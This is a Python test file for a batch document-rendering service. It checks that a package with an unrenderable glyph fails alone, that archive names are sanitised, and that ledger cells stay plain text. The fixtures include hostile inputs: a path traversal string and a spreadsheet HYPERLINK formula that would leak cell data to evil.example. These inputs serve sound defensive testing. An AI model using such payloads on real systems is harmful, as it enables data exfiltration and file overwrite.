"""Issue 12, batches: one poisoned package fails its own documents, never the queue (local pool and RQ);
names made from package text are safe in the batch zip; ledger cells stay text; scratch clean-up."""
from __future__ import annotations

import io
import json
import os
import pickle
import signal
import subprocess
import sys
import time
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from conftest import ROOT, unavailable
from hardening_support import changed, leftovers, package_zip, sign_in
from service import jobs, queue, scratch
from service.accounts import now
from service.config import Settings
from service.db import models as m
from service.runtime import Runtime
from service.web import create_app
from service_support import Api, listening, make_users

POISON = "朝晖\ue000一区"  # a private-use character: the schema takes it, no shipped font draws it
COMMUNITIES = {
    "XC-2020-901": POISON,
    "XC-2020-902": "朝晖\r一区",
    "XC-2020-903": "朝晖\r\n二区",
    "XC-2020-904": "a/../../../../tmp/x",
    "XC-2020-905": '<>:"|?*',
    "XC-2020-906": '=HYPERLINK("http://evil.example/?leak="&A3,"点此查看")',
    "XC-2020-907": "CON",
}
FORMULA = COMMUNITIES["XC-2020-906"]


def package_for(code: str, community: str) -> bytes:
    doc = json.loads(changed('"code": "XC-2020-007"', f'"code": "{code}"'))
    doc["project"]["community"] = community
    return package_zip(json.dumps(doc, ensure_ascii=False))


def open_service(settings: Settings):
    rt = Runtime.open(settings)
    tokens = make_users(rt)
    app = create_app(runtime=rt)
    app.testing = True
    api = Api(app.test_client(), tokens)
    ids = {}
    for code, community in COMMUNITIES.items():
        response = api.submit("chaohui", package_for(code, community))
        assert response.status_code == 201 and response.json["status"] == "accepted", (code, response.json)
        ids[code] = response.json["id"]
    return rt, api, ids


def wait(api, job_id: int, timeout: float = 300) -> dict:
    deadline = time.time() + timeout
    while time.time() < deadline:
        response = api("clerk", "GET", f"/api/v1/jobs/{job_id}")
        assert response.status_code == 200, response.get_data(as_text=True)
        if response.json["status"] in ("done", "failed"):
            return response.json
        time.sleep(0.3)
    raise AssertionError(f"job {job_id} did not finish: {api('clerk', 'GET', f'/api/v1/jobs/{job_id}').json}")


def assert_poison_fails_alone(api, ids: dict, state: dict) -> None:
    assert state["status"] == "done" and state["outcome"] == "completed with failures", state
    assert [(f["package"], f["document"]) for f in state["failures"]] == [(ids["XC-2020-901"], "notice.pdf")], state["failures"]
    assert "U+E000" in state["failures"][0]["reason"]
    names = zipfile.ZipFile(io.BytesIO(api("clerk", "GET", f"/api/v1/jobs/{state['id']}/result.zip").data)).namelist()
    assert len(names) == 2 * len(COMMUNITIES) - 1 + 1  # every document but the poisoned PDF, and failures.json
    for name in names:
        parts = name.split("/")
        assert ".." not in name and not any(c in name for c in '<>:"|?*\\\r\n'), name
        assert all(p == p.strip(" .") and p.split(".")[0].upper() not in ("CON", "NUL", "PRN", "AUX") for p in parts), name
    folders = {n.split("/")[2] for n in names if n.count("/") == 3}
    assert {"XC-2020-904-a_________tmp_x", "XC-2020-905-_______", "XC-2020-907-CON", "XC-2020-902-朝晖_一区"} <= folders, folders


@pytest.fixture
def local(tmp_path):
    rt, api, ids = open_service(Settings(data_dir=tmp_path / "data"))
    yield rt, api, ids
    queue.shutdown()
    rt.engine.dispose()


def test_a_poisoned_package_fails_its_document_not_the_local_pool(local):
    rt, api, ids = local
    first = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "street": "朝晖街道"})
    assert first.status_code == 202
    assert_poison_fails_alone(api, ids, wait(api, first.json["id"]))
    # Later jobs run: the pool is whole.
    second = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "stage": "declaration"})
    assert second.status_code == 202 and second.json["id"] != first.json["id"]
    assert_poison_fails_alone(api, ids, wait(api, second.json["id"]))
    sign_in(api.client, "clerk")
    page = api.client.get(f"/jobs/{second.json['id']}")
    assert page.status_code == 200 and "已完成，但有未出具的文书" in page.get_data(as_text=True)
    # The line breaks were normalised for the renderer; the stored bytes are as sent.
    with rt.reading() as s:
        row = s.get(m.PackageRow, ids["XC-2020-902"])
    assert b"\\r" in rt.blobs.read(row.package_sha256)


def test_the_poisoned_document_is_409_over_http_and_exit_3_on_the_command_line(local, tmp_path):
    rt, api, ids = local
    response = api("clerk", "GET", f"/api/v1/packages/{ids['XC-2020-901']}/documents/notice.pdf?lang=en")
    assert response.status_code == 409 and "U+E000" in response.json["error"]["message"]
    zh = api("clerk", "GET", f"/api/v1/packages/{ids['XC-2020-901']}/documents/notice.pdf")
    assert zh.status_code == 409 and "没有字体" in zh.json["error"]["message"]
    assert api("clerk", "GET", f"/api/v1/packages/{ids['XC-2020-901']}/documents/notice.docx").status_code == 200
    assert api("clerk", "GET", f"/api/v1/packages/{ids['XC-2020-902']}/documents/notice.pdf").status_code == 200
    folder = tmp_path / "poisoned.zip"
    folder.write_bytes(package_for("XC-2020-901", POISON))
    out = tmp_path / "notice.pdf"
    result = subprocess.run([sys.executable, "-m", "service", "render", "notice", str(folder), "-o", str(out), "--lang", "en"],
                            capture_output=True, text=True, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert result.returncode == 3 and "U+E000" in result.stderr and "Traceback" not in result.stderr
    assert not out.exists()


def test_ledger_cells_are_text_never_formulas(local):
    rt, api, ids = local
    response = api("clerk", "GET", "/api/v1/ledger.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    # The community's name lands in several cells (项目台账: name and communities; 小区明细): each is text.
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(FORMULA in c.value and c.data_type == "s" for c in cells)
    assert any(c.value == FORMULA for c in cells)
    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode()  # no formula anywhere in the workbook


def test_a_task_is_tried_at_most_three_times(tmp_path, monkeypatch):
    rt, api, ids = open_service(Settings(data_dir=tmp_path / "data"))
    dispatched = []
    monkeypatch.setattr(queue, "dispatch", lambda settings, task_id: dispatched.append(task_id))
    job = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "street": "朝晖街道", "stage": "declaration"}).json
    with rt.writing() as s:  # as if its worker had died on it three times
        s.execute(update(m.JobTask).where(m.JobTask.job_id == job["id"]).values(
            status="running", attempts=3, lease_until=now() - timedelta(seconds=1)))
    dispatched.clear()
    assert jobs.requeue_stale(rt) == 0 and dispatched == []  # not handed out a fourth time
    state = api("clerk", "GET", f"/api/v1/jobs/{job['id']}").json
    assert state["status"] == "failed" and state["outcome"] == "failed"
    assert len(state["failures"]) == state["total"] and all("3 attempts" in f["reason"] for f in state["failures"])
    # A worker handed such a task anyway does not run it.
    with rt.reading() as s:
        task_id = s.scalars(select(m.JobTask.id).where(m.JobTask.job_id == job["id"])).first()
    jobs.run_task(task_id, rt.settings)
    with rt.reading() as s:
        assert s.get(m.JobTask, task_id).attempts == 3
    # A failed job may be asked for again.
    again = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "street": "朝晖街道", "stage": "declaration"})
    assert again.status_code == 202 and again.json["id"] != job["id"]
    rt.engine.dispose()


def test_exceptions_survive_pickling():
    from service.adapters.reader import PackageError, PackageTooLarge
    from service.archive.bag import BagRefused
    from service.documents import Blocked
    from service.domain.findings import ERROR, Finding, Msg
    from service.render.fonts import MissingGlyph

    finding = Finding("ACCEPT-CONCLUSION", ERROR, "/acceptance", Msg("x {a}", {"a": 1}), "四（二）")
    for exc in (MissingGlyph("\ue000", ["JG-Serif"]), PackageError("the zip holds “{name}” twice", name="a.pdf"),
                PackageTooLarge("the zip unpacks to more than {limit} bytes", limit=5), Blocked([finding]),
                BagRefused([Msg("m")]), jobs.TaskError("task 3: boom")):
        back = pickle.loads(pickle.dumps(exc))
        assert type(back) is type(exc) and str(back) == str(exc)
    assert pickle.loads(pickle.dumps(MissingGlyph("\ue000", ["a"]))).char == "\ue000"


def test_on_redis_a_poisoned_package_fails_its_document_and_later_jobs_run(tmp_path):
    if not listening(6379):
        unavailable("Redis is not reachable at 127.0.0.1:6379: the queue tests cannot run here; .ci/run starts it")
    from redis import Redis

    url = "redis://127.0.0.1:6379/11"
    Redis.from_url(url).flushdb()
    settings = Settings(data_dir=tmp_path / "data", queue_url=url)
    rt, api, ids = open_service(settings)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "JIUGAI_DATA_DIR": str(settings.data_dir), "JIUGAI_QUEUE_URL": url}
    worker = subprocess.Popen([sys.executable, "-m", "service", "worker"], env=env, cwd=ROOT, start_new_session=True,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        first = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "street": "朝晖街道"})
        assert_poison_fails_alone(api, ids, wait(api, first.json["id"]))
        second = api("clerk", "POST", "/api/v1/jobs", json={"plan_year": 2020, "stage": "declaration"})
        assert_poison_fails_alone(api, ids, wait(api, second.json["id"]))
        with rt.reading() as s:
            assert all(t.attempts == 1 for t in s.scalars(select(m.JobTask)))  # nothing retried for ever
    finally:
        os.killpg(worker.pid, signal.SIGKILL)
        worker.wait()
        rt.engine.dispose()


HOLDER = """
import sys, time
from pathlib import Path
from service import scratch
folder = scratch.folder(Path(sys.argv[1]))
(folder / "upload-1").mkdir()
(folder / "upload-1" / "package.zip").write_bytes(b"x" * 1000)
print(folder, flush=True)
time.sleep(600)
"""


def test_start_up_clean_up_removes_only_what_no_live_process_holds(tmp_path):
    data = tmp_path / "data"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}

    def holder():
        process = subprocess.Popen([sys.executable, "-c", HOLDER, str(data)], env=env, stdout=subprocess.PIPE, text=True,
                                   start_new_session=True)
        return process, process.stdout.readline().strip()

    dead, dead_folder = holder()
    live, live_folder = holder()
    try:
        os.killpg(dead.pid, signal.SIGKILL)  # killed mid-upload: its files stay behind
        dead.wait()
        assert len(leftovers(data)) == 2
        rt = Runtime.open(Settings(data_dir=data))
        rt.clean_up()  # what `jiugai serve` does at start, beside a server that is still running
        assert not os.path.exists(dead_folder) and os.path.exists(live_folder + "/upload-1/package.zip")
        assert [str(p) for p in leftovers(data)] == [live_folder + "/upload-1/package.zip"]
    finally:
        os.killpg(live.pid, signal.SIGKILL)
        live.wait()
    assert scratch.clean(data) == 1 and leftovers(data) == []
    rt.engine.dispose()


def test_blob_temporary_files_being_written_are_left_alone(tmp_path):
    import fcntl

    from service.storage import LocalBlobStore

    store = LocalBlobStore(tmp_path / "blobs")
    held, abandoned = store.tmp / "held", store.tmp / "abandoned"
    held.write_bytes(b"h")
    abandoned.write_bytes(b"a")
    old = time.time() - 3600
    os.utime(held, (old, old))
    os.utime(abandoned, (old, old))
    with open(held, "rb") as f:
        fcntl.flock(f, fcntl.LOCK_EX)  # as a writer in another server would hold it
        process = subprocess.run([sys.executable, "-c", "import sys; from pathlib import Path; from service.storage import LocalBlobStore;"
                                  "print(LocalBlobStore(Path(sys.argv[1])).clean(set()))", str(tmp_path / "blobs")],
                                 capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=60)
        assert process.stdout.strip() == "1" and held.exists() and not abandoned.exists()
